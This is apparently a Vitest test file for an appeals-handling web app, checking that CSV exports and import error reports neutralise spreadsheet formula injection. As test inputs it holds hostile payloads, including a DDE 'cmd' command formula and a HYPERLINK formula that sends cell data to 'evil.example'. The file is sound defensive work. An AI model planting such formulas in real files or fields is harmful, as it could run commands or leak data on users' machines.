import fs from 'node:fs';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { FastifyInstance } from 'fastify';
import { buildApp } from '../../src/app.ts';
import { csvCell, csvDocument } from '../../src/csv.ts';
import { problemsCsv } from '../../src/domains/appeals/import/present.ts';
import { backends, useTestDatabase } from '../support/databases.ts';
import { loginAs, type Agent } from '../support/http.ts';
import { writeCsv } from '../appeals/import/fixtures.ts';

/** RFC 4180 cells of a CSV text, as a spreadsheet reads them (quotes removed, doubled quotes undone). */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = '';
  let quoted = false;
  const body = text.replace(/^\uFEFF/, '');
  for (let i = 0; i < body.length; i++) {
    const c = body[i]!;
    if (quoted) {
      if (c === '"' && body[i + 1] === '"') {
        cell += '"';
        i++;
      } else if (c === '"') quoted = false;
      else cell += c;
    } else if (c === '"') quoted = true;
    else if (c === ',') {
      row.push(cell);
      cell = '';
    } else if (c === '\n' || c === '\r') {
      if (c === '\r' && body[i + 1] === '\n') i++;
      row.push(cell);
      rows.push(row);
      row = [];
      cell = '';
    } else cell += c;
  }
  if (cell !== '' || row.length > 0) {
    row.push(cell);
    rows.push(row);
  }
  return rows;
}

/** A cell a spreadsheet would take for a formula. */
const formula = (cell: string) => /^[=+\-@\t\r＝＋－＠]/.test(cell);

describe('the shared CSV writer', () => {
  it('neutralises every cell a spreadsheet would run as a formula, and only those', () => {
    for (const bad of ['=HYPERLINK("http://x","点我")', '+1+1', '-2+3', '@SUM(A1)', '\t=1', '\r=1', '＝1+1', "=cmd|' /C calc'!A0"]) {
      const cell = parseCsv(csvCell(bad))[0]![0];
      expect(cell).toBe(`'${bad}`);
      expect(formula(cell!)).toBe(false);
    }
    expect(csvCell('京铁家园社区')).toBe('京铁家园社区');
    expect(csvCell('a,"b"')).toBe('"a,""b"""');
    expect(csvCell(-5)).toBe('-5');
    expect(csvCell(null)).toBe('');
    expect(csvCell(new Date('2023-02-01T00:00:00Z'))).toBe('2023-02-01T00:00:00.000Z');
    expect(csvCell({ from: '=1' })).toBe('"{""from"":""=1""}"');
    expect(csvDocument(['a'], [['=1']])).toBe("\uFEFFa\r\n'=1\r\n");
  });

  it('is what the import’s error report (web and CLI) writes', () => {
    const csv = problemsCsv([
      { rowNo: 2, column: '受理时间', value: '=HYPERLINK("http://x")', ticketNo: '@T1', severity: 'error', reason: '-' },
    ]);
    const [, row] = parseCsv(csv);
    expect(row!.slice(0, 4)).toEqual(['2', '受理时间', `'=HYPERLINK("http://x")`, "'@T1"]);
    expect(row!.some(formula)).toBe(false);
  });
});

describe.each(backends)('CSV files the product writes on %s', (backend) => {
  const t = useTestDatabase(backend);
  let app: FastifyInstance;
  let admin: Agent;
  let office: Agent;
  beforeAll(async () => {
    app = await buildApp({ db: t.db, webDist: '/nonexistent', loginAttemptsPerMinute: 1000 });
    admin = await loginAs(app, t.db, 'admin', '11');
    office = await loginAs(app, t.db, 'hotline_office', '110106');
  });
  afterAll(async () => {
    await app.close();
  });

  it('writes no formula into the audit export, whatever login name a stranger typed', async () => {
    const planted = '=HYPERLINK("http://evil.example/?"&A1,"点我")';
    const res = await app.inject({ method: 'POST', url: '/api/v1/auth/login', payload: { login: planted, password: 'whatever it is' } });
    expect(res.statusCode).toBe(401);
    const csv = await admin.inject('/api/v1/audit/export?action=auth.login_failed');
    expect(csv.statusCode).toBe(200);
    const rows = parseCsv(csv.body);
    const actors = rows.slice(1).map((r) => r[2]);
    expect(actors).toContain(`'${planted}`);
    for (const row of rows) expect(row.some(formula), row.join(',')).toBe(false);
  });

  it('writes no formula into an upload’s error report', async () => {
    const file = writeCsv('formula.csv', ['=1+1,+2021-03-05,投诉,停车难,坏行,丰台区,六里桥街道,京铁家园社区,,,,,,,,,,']);
    const boundary = '----security-boundary';
    const payload = Buffer.concat([
      Buffer.from(`--${boundary}\r\nContent-Disposition: form-data; name="file"; filename="formula.csv"\r\nContent-Type: text/csv\r\n\r\n`),
      fs.readFileSync(file),
      Buffer.from(`\r\n--${boundary}--\r\n`),
    ]);
    const res = await office.inject({
      method: 'POST',
      url: '/api/v1/appeal-imports',
      payload,
      headers: { 'content-type': `multipart/form-data; boundary=${boundary}` },
    });
    expect(res.statusCode, res.body).toBe(201);
    expect(res.json().badRows).toBeGreaterThan(0);
    const report = await office.inject(res.json().errorReportUrl);
    expect(report.statusCode).toBe(200);
    const rows = parseCsv(report.body);
    expect(rows.length).toBeGreaterThan(1);
    expect(report.body).toContain("'+2021-03-05");
    for (const row of rows) expect(row.some(formula), row.join(',')).toBe(false);
  });
});
